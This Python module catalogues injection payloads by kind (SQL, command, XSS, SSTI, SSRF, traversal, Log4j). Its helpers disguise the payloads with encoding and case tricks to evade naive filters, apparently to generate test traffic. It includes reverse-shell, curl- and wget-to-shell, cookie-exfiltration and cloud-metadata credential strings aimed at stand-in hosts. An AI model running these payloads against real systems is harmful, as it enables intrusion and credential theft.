"""Injection payloads by kind, and the disguises they travel in.

The strings are the field's common knowledge (OWASP's testing guide, PayloadsAllTheThings), some altered so
that they are in no list; none of them is used for detection.
"""

from random import Random
from urllib.parse import quote

PAYLOADS: dict[str, tuple[str, ...]] = {
    "sql": ("' OR '1'='1", "1 OR 1=1-- -", "') OR ('a'='a", "1' UNION SELECT username, password FROM users-- -",
            "1; DROP TABLE orders--", "1' AND SLEEP(5)-- -", "1 AND (SELECT 1 FROM pg_sleep(4))", "admin'--",
            "-1 UNION ALL SELECT NULL,NULL,version()--", "1' AND extractvalue(1,concat(0x7e,user()))-- -",
            "x'; EXEC xp_cmdshell('dir')--", "1' ORDER BY 9-- -", "' OR EXISTS(SELECT * FROM accounts WHERE balance>1)-- ",
            "1 RLIKE (SELECT (CASE WHEN (7=7) THEN 1 ELSE 0x28 END))"),
    "nosql": ('{"$ne": null}', '{"$gt": ""}', "' || this.password.match(/.*/)//", '{"$where": "sleep(3000)"}',
              "'; return true; var x='", '{"$regex": "^a"}', "[$ne]=1", "1'; while(true){}; //"),
    "command": ("; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "&& curl http://198.51.100.7/x.sh | sh",
                "; nc -e /bin/sh 198.51.100.7 4444", "|| ping -c 5 127.0.0.1", "\n/bin/ls -la", "; wget -qO- http://evil.example/p|bash",
                "x;sleep${IFS}9", "& powershell -enc SQBFAFgA"),
    "traversal": ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/shadow",
                  "/var/www/../../etc/hosts", "../../../proc/self/environ", "..;/..;/manager/html", "file:///etc/passwd",
                  "../../.env", "php://filter/convert.base64-encode/resource=index"),
    "xss": ("<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=fetch('//evil.example/'+document.cookie)>",
            "javascript:alert(1)", "<body onpageshow=alert(1)>", "'-alert(1)-'", "<iframe srcdoc='<script>top.alert(1)</script>'>",
            "<details open ontoggle=confirm(1)>"),
    "ssti": ("{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "<%= 7*7 %>",
             "#{7*7}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
             "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{''.__class__.mro()[1].__subclasses__()}}"),
    "ssrf": ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/", "http://[::1]:8080/admin",
             "gopher://127.0.0.1:6379/_FLUSHALL", "http://metadata.google.internal/computeMetadata/v1/", "http://2130706433/",
             "http://localhost:9200/_cat/indices", "dict://127.0.0.1:11211/stats", "http://0x7f000001/"),
    "log4j": ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/o}", "${${::-j}${::-n}di:dns://x.evil.example}"),
}  # fmt: skip


def payload(rng: Random, kind: str) -> str:
    """One payload of a kind, sometimes in the dress that evades naive patterns."""
    text = rng.choice(PAYLOADS[kind])
    if kind == "sql" and rng.random() < 0.3:
        text = text.replace(" ", rng.choice(("/**/", "\t", "  ", "/*x*/")))
    if rng.random() < 0.2:
        text = (
            "".join(letter.swapcase() if rng.random() < 0.4 else letter for letter in text)
            if kind == "sql"
            else text
        )
    if rng.random() < 0.3:
        text = rng.choice(("1", "a", "lamp", "42 ")) + text
    return text


def in_url(rng: Random, text: str) -> str:
    """Encode for a path or a query: once as it must be, sometimes twice, sometimes every letter."""
    disguise = rng.random()
    if disguise < 0.15:
        return quote(quote(text, safe=""), safe="")
    if disguise < 0.25:
        return "".join(f"%{byte:02x}" for byte in text.encode())
    return quote(text, safe="'()*!:")


def in_header(text: str) -> str:
    """A header's value holds no line feed: it is written as an escape."""
    return text.replace("\n", "%0a").replace("\t", " ")


def in_json(rng: Random, text: str) -> str:
    """A JSON string's inside, as bytes on the wire would show it; sometimes every letter escaped."""
    if rng.random() < 0.15:
        return "".join(f"\\u{ord(letter):04x}" for letter in text)
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t")
